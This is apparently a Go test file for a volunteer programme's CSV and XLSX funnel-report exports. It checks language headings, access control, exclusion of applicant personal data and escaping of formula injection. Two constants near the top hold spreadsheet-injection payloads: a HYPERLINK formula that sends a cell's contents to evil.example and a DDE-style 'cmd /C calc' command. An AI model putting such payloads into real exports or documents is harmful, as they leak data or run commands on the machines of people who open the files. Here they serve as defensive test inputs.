package reports_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/konullu/konullu"
)

// evilCohort and evilCourse are names a spreadsheet would run as formulas.
const (
	evilCohort = `=HYPERLINK("http://evil.example/?x="&A1,"Payız")`
	evilCourse = `@SUM(1+1)*cmd|' /C calc'!A0`
)

// exec runs a statement with times in the database's own form and returns
// the id it returns, if any.
func (f *fixture) exec(query string, args ...any) int64 {
	f.t.Helper()
	for i, a := range args {
		if t, ok := a.(time.Time); ok && f.db.Dialect() != "postgres" {
			args[i] = t.UTC().Format("2006-01-02T15:04:05.000000Z")
		}
	}
	if f.db.Dialect() == "postgres" {
		n := 0
		query = regexp.MustCompile(`\?`).ReplaceAllStringFunc(query, func(string) string { n++; return fmt.Sprintf("$%d", n) })
	}
	var id int64
	if strings.Contains(query, "RETURNING") {
		if err := f.db.SQL().QueryRow(query, args...).Scan(&id); err != nil {
			f.t.Fatal(err)
		}
	} else if _, err := f.db.SQL().Exec(query, args...); err != nil {
		f.t.Fatal(err)
	}
	return id
}

// programme adds to the fixture a cohort serving its first centre with two
// applications, one accepted whose volunteer attended a shift ten days
// after applying; it returns the cohort's global id.
func (f *fixture) programme() string {
	f.t.Helper()
	ctx := context.Background()
	day := 24 * time.Hour
	c := &konullu.Cohort{Name: evilCohort, OpensAt: now.Add(-60 * day), ClosesAt: now.Add(-30 * day), Places: 5, CentreIDs: []int64{f.centre.ID}}
	if err := f.db.CreateCohort(ctx, c); err != nil {
		f.t.Fatal(err)
	}
	applied := now.Add(-50 * day)
	var accepted *konullu.Application
	for i, name := range []string{"Nərmin Quliyeva", "Orxan Həsənov"} {
		a := &konullu.Application{CohortID: c.ID, FullName: name, Email: fmt.Sprintf("applicant%d@example.az", i),
			BirthDate: time.Date(2004, 1, 2, 0, 0, 0, 0, time.UTC), Languages: []konullu.LanguageLevel{{Language: "az", Level: "NATIVE"}},
			PreferredCentreIDs: c.CentreIDs, Motivation: "Kömək.", Language: "az", CreatedAt: applied}
		must(f.db.SubmitApplication(ctx, a))
		if i == 0 {
			must(f.db.ScheduleInterview(ctx, konullu.InterviewRequest{ApplicationID: a.ID, At: applied.Add(day), Place: "Bakı"}))
			d := must(f.db.DecideApplication(ctx, konullu.ApplicationDecisionRequest{ApplicationID: a.ID, Decision: konullu.ApplicationAccepted,
				TokenHash: []byte("t"), TokenExpires: now.Add(time.Hour)}))
			accepted = d.Application
		}
	}
	pos := &konullu.Position{Name: "Bələdçi"}
	if err := f.db.CreatePosition(ctx, pos); err != nil {
		f.t.Fatal(err)
	}
	start := applied.Add(10 * day)
	s := must(f.db.CreateShifts(ctx, konullu.NewShifts{CentreID: f.centre.ID, PositionID: pos.ID, Capacity: 2, Publish: true,
		Periods: []konullu.Period{{StartsAt: start, EndsAt: start.Add(4 * time.Hour)}}}))[0]
	must(f.db.RecordPastWork(ctx, konullu.PastWork{ShiftID: s.ID, VolunteerID: accepted.VolunteerID, CheckedInAt: s.StartsAt, CheckedOutAt: s.EndsAt}))
	// The volunteer passed a course named like a formula; the qualification
	// expires in 10 days.
	q := f.exec(`INSERT INTO qualifications (name, name_key, validity_months, created_at) VALUES (?, ?, 12, ?) RETURNING id`,
		"İlk yardım", "ilk yardım", now)
	course := f.exec(`INSERT INTO courses (name, qualification_id, created_at) VALUES (?, ?, ?) RETURNING id`, evilCourse, q, now)
	f.exec(`INSERT INTO held_qualifications (volunteer_id, qualification_id, granted_at, expires_at, source, course_id)
		VALUES (?, ?, ?, ?, 'COURSE', ?)`, accepted.VolunteerID, q, now.Add(-20*day), now.Add(10*day), course)
	return base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf("Cohort:%d", c.ID)))
}

func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(body, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no byte-order mark: %q", body)
	}
	records, err := csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

func TestProgrammeExportCSV(t *testing.T) {
	f := newFixture(t)
	cohort := f.programme()
	const q = "?from=2025-01-01&to=2025-03-10"
	w := f.get("staff", "/reports/programme-funnel.csv"+q+"&lang=keys") // the machine keys
	if w.Code != http.StatusOK {
		t.Fatalf("status %d: %s", w.Code, w.Body)
	}
	if cd := w.Header().Get("Content-Disposition"); !strings.Contains(cd, `filename="programme-funnel_20250101_20250310.csv"`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	records := readCSV(t, w.Body.Bytes())
	want := []string{
		"section,cohort,name,applied,interviewed,accepted,trained,first_shift,active_after_90_days,due_for_90_days," +
			"days_to_first_shift_median,days_to_first_shift_p25,days_to_first_shift_p75,days_to_first_shift_p90,days_to_first_shift_mean," +
			"enrolled,completed,valid,expiring_within_30_days,expiring_within_90_days,expired",
		// The cohort's name is written behind a quote: no spreadsheet runs it.
		"funnel,'" + evilCohort + ",,2,1,1,1,1,0,0,10.0,10.0,10.0,10.0,10.0,,,,,,",
		"funnel,total,,2,1,1,1,1,0,0,10.0,10.0,10.0,10.0,10.0,,,,,,",
		"course,,'" + evilCourse + ",,,,,,,,,,,,,1,1,,,,",
		"qualification,,İlk yardım,,,,,,,,,,,,,,,1,1,0,0",
	}
	if len(records) != len(want) {
		t.Fatalf("%d records, want %d: %q", len(records), len(want), records)
	}
	for i, r := range records {
		if got := strings.Join(r, ","); got != want[i] {
			t.Errorf("row %d:\n got %s\nwant %s", i, got, want[i])
		}
	}
	for _, secret := range []string{"applicant0@example.az", "Nərmin"} {
		if bytes.Contains(w.Body.Bytes(), []byte(secret)) {
			t.Errorf("the export names an applicant (%s)", secret)
		}
	}

	// Headings in the language asked for; one cohort by its id.
	records = readCSV(t, f.get("admin", "/reports/programme-funnel.csv"+q+"&lang=az&cohortId="+cohort).Body.Bytes())
	if len(records) != 5 || records[0][0] != "Bölmə" || records[0][7] != "İlk növbə" || records[2][1] != "Bütün axınlar" || records[1][0] != "Mərhələlər" ||
		records[3][0] != "Kurs" || records[4][0] != "İxtisas" {
		t.Errorf("in Azerbaijani: %q", records)
	}
	records = readCSV(t, f.get("staff", "/reports/programme-funnel.csv"+q+"&lang=ru").Body.Bytes())
	if records[0][3] != "Подали заявку" || records[2][1] != "Все наборы" {
		t.Errorf("in Russian: %q", records)
	}
}

func TestProgrammeExportRights(t *testing.T) {
	f := newFixture(t)
	cohort := f.programme()
	const q = "?from=2025-01-01&to=2025-03-10"
	wantError(t, f.get("", "/reports/programme-funnel.csv"+q), http.StatusUnauthorized, konullu.EUNAUTHENTICATED, "")
	wantError(t, f.get("volunteer", "/reports/programme-funnel.csv"+q), http.StatusForbidden, konullu.EFORBIDDEN, "")
	wantError(t, f.get("volunteer", "/reports/programme-funnel.xlsx"+q), http.StatusForbidden, konullu.EFORBIDDEN, "")
	// The coordinator coordinates the other centre, which the cohort does not serve.
	wantError(t, f.get("coordinator", "/reports/programme-funnel.csv"+q+"&cohortId="+cohort), http.StatusForbidden, konullu.EFORBIDDEN, "")
	if records := readCSV(t, f.get("coordinator", "/reports/programme-funnel.csv"+q).Body.Bytes()); len(records) != 2 || records[1][3] != "0" {
		t.Errorf("the coordinator's own cohorts (none): %q", records)
	}
	wantError(t, f.get("staff", "/reports/programme-funnel.csv"+q+"&lang=fr"), http.StatusBadRequest, konullu.EINVALID, "lang")
	wantError(t, f.get("staff", "/reports/programme-funnel.csv"+q+"&cohortId=nonsense"), http.StatusBadRequest, konullu.EINVALID, "cohortId")
	wantError(t, f.get("staff", "/reports/programme-funnel.csv?from=2025-03-10&to=2025-01-01"), http.StatusBadRequest, konullu.EINVALID, "to")
	wantError(t, f.get("staff", "/reports/programme-funnel.csv"+q+"&cohortId=999"), http.StatusNotFound, konullu.ENOTFOUND, "cohortId")
}

func TestProgrammeExportXLSX(t *testing.T) {
	f := newFixture(t)
	f.programme()
	w := f.get("staff", "/reports/programme-funnel.xlsx?from=2025-01-01&to=2025-03-10&lang=en")
	if w.Code != http.StatusOK {
		t.Fatalf("status %d: %s", w.Code, w.Body)
	}
	x, err := excelize.OpenReader(w.Body)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := x.GetRows("programme-funnel")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || rows[0][3] != "Applied" || rows[1][1] != "'"+evilCohort || rows[3][2] != "'"+evilCourse || rows[1][3] != "2" || rows[2][1] != "All cohorts" || rows[2][10] != "10" {
		t.Errorf("rows %q", rows)
	}
	for _, cell := range []string{"D2", "H3", "K3"} {
		if typ, err := x.GetCellType("programme-funnel", cell); err != nil || typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
			t.Errorf("%s is not a number in the sheet (%v, %v)", cell, typ, err)
		}
	}
	if f, err := x.GetCellFormula("programme-funnel", "B2"); err != nil || f != "" {
		t.Errorf("B2 holds a formula %q (%v)", f, err)
	}
}
